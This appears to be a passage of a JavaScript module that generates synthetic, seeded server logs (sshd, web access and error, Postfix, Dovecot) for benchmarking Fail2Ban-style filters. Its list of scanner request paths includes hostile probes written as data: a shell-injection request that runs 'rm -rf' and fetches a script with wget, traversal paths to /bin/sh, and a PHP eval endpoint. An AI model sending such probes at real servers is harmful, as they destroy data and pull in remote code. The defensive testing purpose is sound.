/**
 * @module bench/corpus: deterministic, seeded generators of the logs the f2b-regex bench runs on.
 *
 * Every line is written here from the shapes of the daemons' messages (OpenSSH, nginx/Apache
 * "combined" access logs, Apache's error log, Postfix, Dovecot) — nothing is copied from anyone's logs or from
 * Fail2Ban's samples. The mix imitates what a server on the public Internet sees: most traffic is
 * hostile, from many addresses that try once and a few that hammer; connections overlap, so the
 * lines of one sshd process (one pid) are interleaved with others'; IPv6 shows up alongside IPv4.
 * Same seed, same text (a small xorshift PRNG, no Math.random).
 */

/** A PRNG returning floats in [0, 1). */
export function seededRandom(seed) {
  let x = seed >>> 0 || 0x9e3779b9;
  return () => {
    x ^= x << 13; x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5; x >>>= 0;
    return x / 4294967296;
  };
}

/** Helpers over one PRNG. */
function tools(rnd) {
  const int = (n) => Math.floor(rnd() * n);
  const pick = (list) => list[int(list.length)];
  /** Picks a key of `weights` ({name: weight}) with probability proportional to its weight. */
  const weighted = (weights) => {
    const entries = Object.entries(weights);
    let r = rnd() * entries.reduce((a, [, w]) => a + w, 0);
    for (const [k, w] of entries) { r -= w; if (r < 0) return k; }
    return entries[entries.length - 1][0];
  };
  /** A public-looking IPv4 address (no private, loopback or multicast ranges). */
  const ipv4 = () => {
    for (;;) {
      const a = 1 + int(223);
      if (a === 10 || a === 127 || a === 100 || a === 169 || a === 172 || a === 192) continue;
      return `${a}.${int(256)}.${int(256)}.${1 + int(254)}`;
    }
  };
  /** An IPv6 address in the documentation prefix, written the way daemons print them (compressed). */
  const ipv6 = () => `2001:db8:${int(0x10000).toString(16)}:${int(0x10000).toString(16)}::${(1 + int(0xfffe)).toString(16)}`;
  const address = (v6Share = 0.08) => (rnd() < v6Share ? ipv6() : ipv4());
  const hex = (n) => { let s = ''; for (let i = 0; i < n; i++) s += '0123456789abcdef'[int(16)]; return s; };
  const b64 = (n) => { let s = ''; for (let i = 0; i < n; i++) s += 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'[int(64)]; return s; };
  return { int, pick, weighted, ipv4, ipv6, address, hex, b64 };
}

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad2 = (n) => String(n).padStart(2, '0');
/** `Mar  4 07:05:09` (syslog, no year) for epoch seconds, read as UTC. */
function syslogStamp(t) {
  const d = new Date(t * 1000);
  return `${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${pad2(d.getUTCHours())}:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())}`;
}
/** `04/Mar/2026:07:05:09 +0000` (access logs). */
function accessStamp(t) {
  const d = new Date(t * 1000);
  return `${pad2(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad2(d.getUTCHours())}:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())} +0000`;
}

/**
 * `2026-03-04T07:05:09.339563+00:00`, rsyslog's high-precision RFC 3339 stamps (the default of
 * Debian 13 and Ubuntu 24.04): microseconds that rise within a second, from their own seeded draw.
 */
function rfc3339Stamper(seed) {
  const rnd = seededRandom(seed);
  let second = -1;
  let micros = 0;
  return (t) => {
    micros = t === second ? Math.min(999_999, micros + 1 + Math.floor(rnd() * 40_000)) : Math.floor(rnd() * 200_000);
    second = t;
    const d = new Date(t * 1000);
    return `${d.getUTCFullYear()}-${pad2(d.getUTCMonth() + 1)}-${pad2(d.getUTCDate())}T${pad2(d.getUTCHours())}:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())}.${String(micros).padStart(6, '0')}+00:00`;
  };
}

/** Logs start here (a March, so no year inference lands in the future); seconds since the epoch. */
const START = Date.UTC(2026, 2, 2, 0, 0, 0) / 1000;

/**
 * Collects timed events of overlapping conversations and returns them in time order
 * (stable: lines of one conversation at the same second keep their order).
 */
class Timeline {
  events = [];
  seq = 0;
  add(t, text) { this.events.push({ t, seq: this.seq++, text }); }
  lines(count, stamp, host) {
    this.events.sort((a, b) => a.t - b.t || a.seq - b.seq);
    return this.events.slice(0, count).map((e) => `${stamp(e.t)} ${host} ${e.text}`);
  }
}

const INVALID_USERS = ['admin', 'test', 'user', 'ubuntu', 'oracle', 'postgres', 'guest', 'ftpuser', 'git', 'pi', 'support',
  'deploy', 'hadoop', 'mysql', 'jenkins', 'minecraft', 'steam', 'tomcat', 'nagios', 'student', 'ansible', 'dev', 'www',
  'teamspeak', 'vagrant', 'es', 'elastic', 'debian', 'centos', 'odoo', 'zabbix', 'sysadmin', 'operator', 'demo', '123456',
  'user1', 'test1', 'administrator', 'Admin', 'a', 'sa'];
const REAL_USERS = ['root', 'root', 'root', 'root', 'www-data', 'backup', 'daemon', 'mail', 'nobody'];
const OWN_USERS = ['alice', 'deploy', 'backup-agent', 'ci'];
const KEY_TYPES = ['ED25519', 'RSA', 'ECDSA'];
const CLIENT_BANNERS = ['"GET / HTTP/1.1"', '"\\026\\003\\001"', '"MGLNDD_203.0.113.5_22"', '"SSH-2.0-Go"', '"\\003"'];

/**
 * An sshd auth.log as a public server writes it: `count` lines (plus CRON/logind/sudo noise).
 * Conversations: scanners that drop the connection early (kex errors, banner exchange, preauth
 * closes), single-shot guesses, brute-force bursts of many connections from few addresses, each
 * with several attempts (pam_unix failures with and without `user=`, Invalid user, Failed password,
 * "maximum authentication attempts", Disconnecting … Too many authentication failures), and the
 * owners' accepted sessions (session opened/closed, user disconnects). `stamps: 'rfc3339'` writes
 * the same events with high-precision RFC 3339 stamps instead of syslog's `Mar  4 07:05:09`.
 */
export function generateSshdLog(count, seed = 19, { stamps = 'syslog' } = {}) {
  const rnd = seededRandom(seed);
  const { int, pick, weighted, address, hex, b64 } = tools(rnd);
  const tl = new Timeline();
  let pid = 2000 + int(1000);
  const nextPid = () => { pid += 1 + int(40); if (pid > 4194000) pid = 1000; return pid; };
  const port = () => 1024 + int(64000);
  // A few bursting attackers and many one-shot addresses.
  const hammerers = Array.from({ length: 24 }, () => address(0.1));
  let t = START;
  let lines = 0;
  /** One sshd connection (the address is in its messages); `steps` are [delay seconds, message] in order. */
  const connection = (start, _ip, steps) => {
    const p = nextPid();
    let at = start;
    for (const [dt, msg] of steps) { at += dt; tl.add(at, `sshd[${p}]: ${msg}`); lines++; }
  };
  const pamFailure = (ip, user) => `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}${user ? `  user=${user}` : ''}`;
  /** Guesses on one connection (real or invalid user); ends with the way the attacker leaves. */
  const guesses = (ip, p, tries, invalid, user) => {
    const steps = [];
    if (invalid) steps.push([0, `Invalid user ${user} from ${ip} port ${p}`]);
    for (let k = 0; k < tries; k++) {
      if (invalid) steps.push([k === 0 ? 0 : int(3), 'pam_unix(sshd:auth): check pass; user unknown']);
      steps.push([invalid ? 0 : int(3), pamFailure(ip, invalid ? null : user)]);
      steps.push([1 + int(2), `Failed password for ${invalid ? 'invalid user ' : ''}${user} from ${ip} port ${p} ssh2`]);
    }
    const who = invalid ? `invalid user ${user}` : `authenticating user ${user}`;
    if (tries >= 6) {
      steps.push([0, `error: maximum authentication attempts exceeded for ${invalid ? 'invalid user ' : ''}${user} from ${ip} port ${p} ssh2 [preauth]`]);
      steps.push([0, `Disconnecting ${who} ${ip} port ${p}: Too many authentication failures [preauth]`]);
      steps.push([0, `PAM ${tries - 1} more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}${invalid ? '' : `  user=${user}`}`]);
      if (rnd() < 0.5) steps.push([0, 'PAM service(sshd) ignoring max retries; 6 > 3']);
    } else {
      switch (weighted({ bye: 6, closed: 3, reset: 1 })) {
        case 'bye':
          steps.push([int(2), `Received disconnect from ${ip} port ${p}:11: Bye Bye [preauth]`]);
          steps.push([0, `Disconnected from ${who} ${ip} port ${p} [preauth]`]);
          break;
        case 'closed': steps.push([int(4), `Connection closed by ${who} ${ip} port ${p} [preauth]`]); break;
        default: steps.push([int(4), `Connection reset by ${who} ${ip} port ${p} [preauth]`]);
      }
    }
    return steps;
  };
  while (lines < count) {
    t += rnd() < 0.3 ? 0 : int(4);
    const p = port();
    switch (weighted({ scan: 30, oneshot: 18, burst: 3, accepted: 4, noise: 6, odd: 4 })) {
      case 'scan': {
        // Port scanners and SSH fingerprinters: no authentication at all.
        const ip = address();
        switch (weighted({ closed: 8, bye: 5, kex: 4, reset: 2, banner: 2, negotiate: 2, noid: 1, timeout: 1 })) {
          case 'closed': connection(t, ip, [[int(3), `Connection closed by ${ip} port ${p} [preauth]`]]); break;
          case 'bye': connection(t, ip, [[int(2), `Received disconnect from ${ip} port ${p}:11: Bye Bye [preauth]`], [0, `Disconnected from ${ip} port ${p} [preauth]`]]); break;
          case 'kex': connection(t, ip, [[0, 'error: kex_exchange_identification: Connection closed by remote host'], [0, `Connection closed by ${ip} port ${p}`]]); break;
          case 'reset': connection(t, ip, [[0, 'error: kex_exchange_identification: read: Connection reset by peer'], [0, `Connection reset by ${ip} port ${p}`]]); break;
          case 'banner': connection(t, ip, [[0, `error: kex_exchange_identification: client sent invalid protocol identifier ${pick(CLIENT_BANNERS)}`], [0, `banner exchange: Connection from ${ip} port ${p}: invalid format`]]); break;
          case 'negotiate': connection(t, ip, [[1, `Unable to negotiate with ${ip} port ${p}: no matching ${pick(['key exchange method', 'host key type', 'cipher'])} found. Their offer: ${pick(['diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1,diffie-hellman-group1-sha1', 'ssh-rsa,ssh-dss', 'aes128-cbc,3des-cbc,blowfish-cbc'])} [preauth]`]]); break;
          case 'noid': connection(t, ip, [[10 + int(20), `Did not receive identification string from ${ip} port ${p}`]]); break;
          default: connection(t, ip, [[120, `fatal: Timeout before authentication for ${ip} port ${p}`]]);
        }
        break;
      }
      case 'oneshot': {
        // One or two guesses from an address seen once.
        const ip = address();
        const invalid = rnd() < 0.6;
        connection(t, ip, guesses(ip, p, 1 + int(2), invalid, invalid ? pick(INVALID_USERS) : pick(REAL_USERS)));
        break;
      }
      case 'burst': {
        // A brute-forcer: several connections in parallel, each trying users until it is cut off.
        const ip = pick(hammerers);
        const conns = 2 + int(10);
        for (let c = 0; c < conns; c++) {
          const invalid = rnd() < 0.55;
          connection(t + c * int(8), ip, guesses(ip, port(), rnd() < 0.3 ? 6 : 1 + int(4), invalid, invalid ? pick(INVALID_USERS) : pick(REAL_USERS)));
        }
        break;
      }
      case 'accepted': {
        // The owners log in: a session that opens and, later, closes.
        const ip = rnd() < 0.7 ? `198.51.100.${10 + int(5)}` : address(0.3);
        const user = pick(OWN_USERS);
        const how = rnd() < 0.85 ? `publickey for ${user} from ${ip} port ${p} ssh2: ${pick(KEY_TYPES)} SHA256:${b64(43)}` : `password for ${user} from ${ip} port ${p} ssh2`;
        const last = 30 + int(3000);
        const steps = [[0, `Accepted ${how}`], [0, `pam_unix(sshd:session): session opened for user ${user}(uid=${1000 + OWN_USERS.indexOf(user)}) by (uid=0)`]];
        steps.push([last, `Received disconnect from ${ip} port ${p}:11: disconnected by user`], [0, `Disconnected from user ${user} ${ip} port ${p}`]);
        steps.push([0, `pam_unix(sshd:session): session closed for user ${user}`]);
        connection(t, ip, steps);
        break;
      }
      case 'odd': {
        // Rarer failures and notices.
        const ip = address();
        const user = pick(INVALID_USERS);
        switch (weighted({ jsch: 2, nomethods: 2, notallowed: 1, dss: 2, pubkey: 2, pamauth: 1 })) {
          case 'jsch': connection(t, ip, [[0, `error: Received disconnect from ${ip} port ${p}:3: com.jcraft.jsch.JSchException: Auth fail [preauth]`], [0, `Disconnected from ${ip} port ${p} [preauth]`]]); break;
          case 'nomethods': connection(t, ip, [[0, `Received disconnect from ${ip} port ${p}:14: No supported authentication methods available [preauth]`], [0, `Disconnected from ${ip} port ${p} [preauth]`]]); break;
          case 'notallowed': connection(t, ip, [[0, `User ${pick(REAL_USERS)} from ${ip} not allowed because not listed in AllowUsers`], [1, `Connection closed by ${ip} port ${p} [preauth]`]]); break;
          case 'dss': connection(t, ip, [[0, 'userauth_pubkey: key type ssh-dss not in PubkeyAcceptedAlgorithms [preauth]'], [0, `Connection closed by authenticating user root ${ip} port ${p} [preauth]`]]); break;
          case 'pubkey': connection(t, ip, [[0, `Invalid user ${user} from ${ip} port ${p}`], [0, `Failed publickey for invalid user ${user} from ${ip} port ${p} ssh2: RSA SHA256:${b64(43)}`], [0, `Connection closed by invalid user ${user} ${ip} port ${p} [preauth]`]]); break;
          default: connection(t, ip, [[0, `error: PAM: Authentication failure for root from ${ip}`], [2, `Failed keyboard-interactive/pam for root from ${ip} port ${p} ssh2`], [0, `Connection closed by authenticating user root ${ip} port ${p} [preauth]`]]);
        }
        break;
      }
      default: {
        // Other programs writing to auth.log.
        const noise = weighted({ cron: 5, logind: 2, sudo: 1, listen: 0.05 });
        const np = nextPid();
        const add = (dt, text) => { tl.add(t + dt, text); lines++; };
        if (noise === 'cron') {
          add(0, `CRON[${np}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`);
          add(1, `CRON[${np}]: pam_unix(cron:session): session closed for user root`);
        } else if (noise === 'logind') {
          const id = 1000 + int(9000);
          add(0, `systemd-logind[612]: New session ${id} of user ${pick(OWN_USERS)}.`);
          add(600 + int(3000), `systemd-logind[612]: Session ${id} logged out. Waiting for processes to exit.`);
          add(600 + int(3000), `systemd-logind[612]: Removed session ${id}.`);
        } else if (noise === 'sudo') {
          const user = pick(OWN_USERS);
          add(0, `sudo[${np}]:     ${user} : TTY=pts/${int(4)} ; PWD=/home/${user} ; USER=root ; COMMAND=/usr/bin/systemctl ${pick(['status', 'restart', 'reload'])} ${pick(['nginx', 'postfix', 'f2b'])}`);
          add(0, `sudo[${np}]: pam_unix(sudo:session): session opened for user root(uid=0) by ${user}(uid=1000)`);
          add(1, `sudo[${np}]: pam_unix(sudo:session): session closed for user root`);
        } else {
          add(0, `sshd[${np}]: Server listening on 0.0.0.0 port 22.`);
          add(0, `sshd[${np}]: Server listening on :: port 22.`);
        }
        if (rnd() < 0.02) add(0, `sshd[${nextPid()}]: error: beginning MaxStartups throttling`);
        void hex;
      }
    }
  }
  const stamp = stamps === 'rfc3339' ? rfc3339Stamper(seed + 1) : syslogStamp;
  return `${tl.lines(count, stamp, 'web1').join('\n')}\n`;
}

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
];
const CRAWLERS = [
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
];
const TOOLS = ['curl/8.5.0', 'python-requests/2.31.0', 'Go-http-client/1.1', 'zgrab/0.x', 'Mozilla/5.0 zgrab/0.x', '-'];
// User agents of address harvesters (as the badbots lists name such tools).
const HARVESTERS = ['EmailCollector', 'EmailSiphon', 'ExtractorPro', 'WebEMailExtrac', 'Mozilla/5.0 Jorgee', 'LWP::Simple/5.803'];
const SITE_PATHS = ['/', '/index.html', '/about/', '/blog/', '/blog/2026/02/release-notes/', '/docs/install', '/static/app.3f9c1e.js',
  '/static/style.8a71d2.css', '/img/logo.svg', '/favicon.ico', '/feed.xml', '/robots.txt', '/sitemap.xml', '/api/v1/status', '/contact'];
const ATTACK_PATHS = ['/wp-login.php', '/wp-admin/setup-config.php', '/wordpress/wp-login.php', '/phpmyadmin/index.php', '/pma/',
  '/phpMyAdmin/scripts/setup.php', '/admin/pma/', '/myadmin/', '/mysqladmin/', '/cgi-bin/luci/;stok=/locale', '/cgi-bin/.%2e/.%2e/bin/sh',
  '/roundcube/', '/webmail/', '/horde/imp/', '/.env', '/.git/config', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/xmlrpc.php', '/server-status', '/actuator/env', '/boaform/admin/formLogin', '/HNAP1/', '/owa/auth/logon.aspx', '/config.json',
  '/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.66/x.sh', '/index.php?s=/Index/\\think\\app/invokefunction'];

/**
 * An access log in nginx's/Apache's "combined" format: ordinary visitors and crawlers, and
 * scanners probing for admin pages, WordPress and shells (mostly 404), malformed requests (400),
 * and a few address harvesters by user agent.
 */
export function generateAccessLog(count, seed = 23, { server = 'nginx' } = {}) {
  const rnd = seededRandom(seed);
  const { int, pick, weighted, address } = tools(rnd);
  const scanners = Array.from({ length: 40 }, () => address(0.1));
  const visitors = Array.from({ length: 3000 }, () => address(0.15));
  const out = [];
  let t = START;
  for (let i = 0; i < count; i++) {
    t += rnd() < 0.6 ? 0 : 1;
    const stamp = accessStamp(t);
    const size = () => 200 + int(40000);
    let ip;
    let request;
    let status;
    let agent;
    let referer = '-';
    switch (weighted({ page: 55, asset: 0, crawler: 8, scan: 25, bad: 4, harvester: 1.5, api: 6 })) {
      case 'page': ip = pick(visitors); request = `GET ${pick(SITE_PATHS)} HTTP/${pick(['1.1', '2.0'])}`; status = weighted({ 200: 85, 304: 10, 404: 3, 301: 2 }); agent = pick(BROWSERS); referer = rnd() < 0.4 ? 'https://example.org/' : '-'; break;
      case 'crawler': ip = address(0.2); request = `GET ${pick(SITE_PATHS)} HTTP/1.1`; status = weighted({ 200: 90, 404: 6, 301: 4 }); agent = pick(CRAWLERS); break;
      case 'scan': ip = rnd() < 0.7 ? pick(scanners) : address(); request = `${weighted({ GET: 8, POST: 2, HEAD: 1 })} ${pick(ATTACK_PATHS)} HTTP/1.1`; status = weighted({ 404: 85, 403: 8, 400: 2, 301: 5 }); agent = rnd() < 0.5 ? pick(TOOLS) : pick(BROWSERS); break;
      case 'bad': ip = address(); request = pick(['\\x16\\x03\\x01\\x00\\xF7\\x01\\x00\\x00\\xF3\\x03', 'SSH-2.0-Go', '', 'GET /', 'MGLNDD_198.51.100.3_443', 'CONNECT example.com:443 HTTP/1.1']); status = 400; agent = '-'; break;
      case 'harvester': ip = address(); request = `GET ${pick(SITE_PATHS)} HTTP/1.0`; status = 200; agent = pick(HARVESTERS); break;
      default: ip = pick(visitors); request = `${pick(['GET', 'POST'])} /api/v1/${pick(['items', 'login', 'search?q=term', 'events'])} HTTP/1.1`; status = weighted({ 200: 80, 401: 10, 422: 5, 500: 1 }); agent = pick(BROWSERS);
    }
    const user = status === '401' || rnd() > 0.01 ? '-' : 'alice';
    const bytes = status === '304' ? 0 : size();
    const line = `${ip} - ${user} [${stamp}] "${request}" ${status} ${bytes} "${referer}" "${agent}"`;
    out.push(server === 'apache' && rnd() < 0.02 ? `${ip} - - [${stamp}] "OPTIONS * HTTP/1.0" 200 126 "-" "Apache/2.4.62 (Debian) (internal dummy connection)"` : line);
  }
  return `${out.join('\n')}\n`;
}

const WEEKDAYS = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const SCRIPT_PATHS = ['/usr/lib/cgi-bin/luci', '/usr/lib/cgi-bin/php', '/usr/lib/cgi-bin/test-cgi', '/var/www/html/shell.php',
  '/var/www/html/wp-login.php', '/var/www/html/xmlrpc.php', '/var/www/html/admin.php', '/var/www/html/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'];
const DENIED_PATHS = ['/var/www/html/.git/config', '/var/www/html/.env', '/var/www/html/server-status', '/var/www/html/.htpasswd', '/var/www/html/backup.sql'];

/**
 * An Apache 2.4 error log (`[Wed Mar 04 07:05:09.339563 2026] [module:level] [pid …:tid …]
 * [client ip:port] AHnnnnn: …`, microseconds on every line): scanners' missing files and scripts,
 * requests denied by the configuration, Basic-auth guesses (unknown users, password mismatches),
 * PHP-FPM's "Primary script unknown", rejected URIs, and the server's own notices.
 */
export function generateApacheErrorLog(count, seed = 37) {
  const rnd = seededRandom(seed);
  const { int, pick, weighted, address } = tools(rnd);
  const scanners = Array.from({ length: 30 }, () => address(0.1));
  const guessers = Array.from({ length: 8 }, () => address(0.1));
  const out = [];
  let t = START;
  let micros = 0;
  for (let i = 0; i < count; i++) {
    const step = rnd() < 0.5 ? 0 : 1 + int(2);
    micros = step === 0 ? Math.min(999_999, micros + 1 + int(30_000)) : int(100_000);
    t += step;
    const d = new Date(t * 1000);
    const stamp = `${WEEKDAYS[d.getUTCDay()]} ${MONTHS[d.getUTCMonth()]} ${pad2(d.getUTCDate())} ${pad2(d.getUTCHours())}:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())}.${String(micros).padStart(6, '0')} ${d.getUTCFullYear()}`;
    const pid = `[pid ${1200 + int(40)}:tid ${140000000000000 + int(1e9)}]`;
    const client = (ip) => `[client ${ip}:${1024 + int(64000)}]`;
    let line;
    switch (weighted({ missing: 35, denied: 14, user: 6, mismatch: 8, script: 12, fpm: 10, uri: 4, notice: 3, ssl: 8 })) {
      case 'missing': line = `[core:info] ${pid} ${client(rnd() < 0.7 ? pick(scanners) : address())} AH00128: File does not exist: /var/www/html${pick(ATTACK_PATHS).split('?')[0]}`; break;
      case 'denied': line = `[authz_core:error] ${pid} ${client(pick(scanners))} AH01630: client denied by server configuration: ${pick(DENIED_PATHS)}`; break;
      case 'user': line = `[auth_basic:error] ${pid} ${client(pick(guessers))} AH01618: user ${pick(INVALID_USERS)} not found: /admin/`; break;
      case 'mismatch': line = `[auth_basic:error] ${pid} ${client(pick(guessers))} AH01617: user ${pick(['admin', 'alice', 'root'])}: authentication failure for "/admin/": Password Mismatch`; break;
      case 'script': line = `[cgi:error] ${pid} ${client(pick(scanners))} AH02811: script not found or unable to stat: ${pick(SCRIPT_PATHS)}`; break;
      case 'fpm': line = `[proxy_fcgi:error] ${pid} ${client(address())} AH01071: Got error 'Primary script unknown'`; break;
      case 'uri': line = `[core:error] ${pid} ${client(address())} AH10244: invalid URI path (/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh)`; break;
      case 'notice': line = `[mpm_event:notice] [pid 1187:tid 140000000000001] AH00489: Apache/2.4.62 (Debian) OpenSSL/3.5.1 configured -- resuming normal operations`; break;
      default: line = `[ssl:info] ${pid} ${client(address())} AH01964: Connection to child ${int(64)} established (server example.org:443)`;
    }
    out.push(`[${stamp}] ${line}`);
  }
  return `${out.join('\n')}\n`;
}

const MAIL_DOMAINS = ['example.org', 'example.net', 'mail.example.com', 'lists.example.org'];
// Mail logs carry UTF-8 as it came (SMTPUTF8 senders, guessed SASL and IMAP user names): now and then
// a line of another script, which must not move the ASCII lines around it off their fast path.
const UTF8_USERS = ['jürgen', 'пользователь', 'администратор', '管理员', 'usuário', 'δοκιμή'];
const SPAM_HELOS = ['User', 'ylmf-pc', 'WIN-CLJ1B0GQ6JP', 'localhost', '[198.51.100.77]', 'ADMIN', 'mail.example.com'];

/**
 * A mail server's log: Postfix (smtpd connects, rejects of unknown recipients, relay attempts,
 * RBL hits, SASL brute force on submission, queue traffic) and Dovecot (IMAP/POP3 logins, failed
 * ones with auth-worker and PAM lines, aborted logins).
 */
export function generateMailLog(count, seed = 29) {
  const rnd = seededRandom(seed);
  const { int, pick, weighted, address, hex } = tools(rnd);
  const tl = new Timeline();
  let pid = 3000;
  const nextPid = () => { pid += 1 + int(30); return pid; };
  const sasl = Array.from({ length: 30 }, () => address(0.1));
  const users = ['alice', 'bob', 'carol', 'info', 'sales', 'admin', 'test', 'postmaster', 'webmaster', 'support'];
  const qid = () => hex(10).toUpperCase();
  let lines = 0;
  const add = (t, text) => { tl.add(t, text); lines++; };
  let t = START;
  while (lines < count) {
    t += rnd() < 0.3 ? 0 : int(3);
    const ip = address(0.1);
    const rdns = rnd() < 0.5 ? 'unknown' : `host-${ip.replace(/[.:]/g, '-')}.example.net`;
    const client = `${rdns}[${ip}]`;
    const sp = nextPid();
    const smtpd = (dt, msg, daemon = 'smtpd') => add(t + dt, `postfix/${daemon}[${sp}]: ${msg}`);
    switch (weighted({ delivery: 20, reject: 12, relay: 3, rbl: 4, sasl: 12, lost: 10, imap: 18, imapfail: 10, abort: 5 })) {
      case 'delivery': {
        const q = qid();
        const from = `${rnd() < 0.01 ? pick(UTF8_USERS) : pick(users)}@${pick(MAIL_DOMAINS)}`;
        smtpd(0, `connect from ${client}`);
        smtpd(1, `${q}: client=${client}`);
        add(t + 1, `postfix/cleanup[${nextPid()}]: ${q}: message-id=<${hex(16)}@${pick(MAIL_DOMAINS)}>`);
        add(t + 2, `postfix/qmgr[1123]: ${q}: from=<${from}>, size=${1000 + int(90000)}, nrcpt=1 (queue active)`);
        smtpd(2, `disconnect from ${client} ehlo=2 starttls=1 mail=1 rcpt=1 data=1 quit=1 commands=7`);
        add(t + 3, `postfix/local[${nextPid()}]: ${q}: to=<${pick(users)}@example.org>, relay=local, delay=${(rnd() * 3).toFixed(2)}, delays=0.1/0.01/0/0.2, dsn=2.0.0, status=sent (delivered to mailbox)`);
        add(t + 3, `postfix/qmgr[1123]: ${q}: removed`);
        break;
      }
      case 'reject': {
        smtpd(0, `connect from ${client}`);
        const rcpt = `${pick(['jsmith', 'office', 'hr', 'noreply', 'a.b'])}@example.org`;
        smtpd(1, `NOQUEUE: reject: RCPT from ${client}: 550 5.1.1 <${rcpt}>: Recipient address rejected: User unknown in virtual mailbox table; from=<${hex(6)}@${pick(MAIL_DOMAINS)}> to=<${rcpt}> proto=ESMTP helo=<${pick(SPAM_HELOS)}>`);
        smtpd(2, `disconnect from ${client} ehlo=1 mail=1 rcpt=0/1 quit=1 commands=3/4`);
        break;
      }
      case 'relay': {
        smtpd(0, `connect from ${client}`);
        smtpd(1, `NOQUEUE: reject: RCPT from ${client}: 454 4.7.1 <target${int(99)}@example.com>: Relay access denied; from=<spoof@example.org> to=<target@example.com> proto=SMTP helo=<${pick(SPAM_HELOS)}>`);
        smtpd(1, `disconnect from ${client} helo=1 mail=1 rcpt=0/1 quit=1 commands=3/4`);
        break;
      }
      case 'rbl': {
        add(t, `postfix/postscreen[1090]: CONNECT from [${ip}]:${1024 + int(60000)} to [203.0.113.25]:25`);
        add(t, `postfix/postscreen[1090]: DNSBL rank ${2 + int(5)} for [${ip}]:${1024 + int(60000)}`);
        add(t + 1, `postfix/postscreen[1090]: NOQUEUE: reject: RCPT from [${ip}]:${1024 + int(60000)}: 550 5.7.1 Service unavailable; client [${ip}] blocked using zen.spamhaus.example; from=<x@example.net>, to=<alice@example.org>, proto=ESMTP, helo=<${pick(SPAM_HELOS)}>`);
        add(t + 1, `postfix/postscreen[1090]: DISCONNECT [${ip}]:${1024 + int(60000)}`);
        break;
      }
      case 'sasl': {
        // Password guessing on submission: several attempts, mostly from a few addresses.
        const from = rnd() < 0.7 ? pick(sasl) : ip;
        const c = `unknown[${from}]`;
        add(t, `postfix/submission/smtpd[${sp}]: connect from ${c}`);
        const tries = 1 + int(3);
        for (let k = 0; k < tries; k++) add(t + 1 + k, `postfix/submission/smtpd[${sp}]: warning: ${c}: SASL ${pick(['LOGIN', 'PLAIN'])} authentication failed: ${pick(['UGFzc3dvcmQ6', 'authentication failure'])}, sasl_username=${rnd() < 0.01 ? pick(UTF8_USERS) : pick(users)}@example.org`);
        add(t + 1 + tries, `postfix/submission/smtpd[${sp}]: lost connection after AUTH from ${c}`);
        add(t + 1 + tries, `postfix/submission/smtpd[${sp}]: disconnect from ${c} ehlo=1 auth=0/${tries} rset=1 commands=2/${tries + 2}`);
        break;
      }
      case 'lost': {
        smtpd(0, `connect from ${client}`);
        smtpd(rnd() < 0.5 ? 0 : 5, weighted({ lost: 3, timeout: 1, pregreet: 1 }) === 'lost' ? `lost connection after ${pick(['EHLO', 'CONNECT', 'STARTTLS', 'RCPT'])} from ${client}` : `timeout after ${pick(['EHLO', 'CONNECT'])} from ${client}`);
        smtpd(5, `disconnect from ${client} ehlo=1 commands=1`);
        if (rnd() < 0.2) smtpd(5, `warning: hostname ${rdns} does not resolve to address ${ip}: Name or service not known`);
        break;
      }
      case 'imap': {
        const user = pick(users.slice(0, 4));
        const own = `198.51.100.${20 + int(30)}`;
        const proto = pick(['imap', 'imap', 'pop3']);
        add(t, `dovecot: ${proto}-login: Login: user=<${user}>, method=PLAIN, rip=${own}, lip=203.0.113.25, mpid=${nextPid()}, TLS, session=<${hex(16)}>`);
        add(t + 30 + int(900), `dovecot: ${proto}(${user})<${nextPid()}><${hex(16)}>: Disconnected: Logged out in=${int(900)} out=${int(90000)} deleted=0 expunged=0 trashed=0 hdr_count=0 hdr_bytes=0 body_count=0 body_bytes=0`);
        break;
      }
      case 'imapfail': {
        const from = rnd() < 0.6 ? pick(sasl) : ip;
        const user = rnd() < 0.01 ? pick(UTF8_USERS) : pick(users);
        const tries = 1 + int(3);
        for (let k = 0; k < tries; k++) {
          add(t + k, `dovecot: auth-worker(${nextPid()}): pam(${user}@example.org,${from},<${hex(16)}>): pam_authenticate() failed: ${pick(['Authentication failure (Password mismatch?)', 'User not known to the underlying authentication module: 1 Time(s)'])}`);
          add(t + k, `auth: pam_unix(dovecot:auth): authentication failure; logname= uid=0 euid=0 tty=dovecot ruser=${user} rhost=${from}${rnd() < 0.5 ? `  user=${user}` : ''}`);
        }
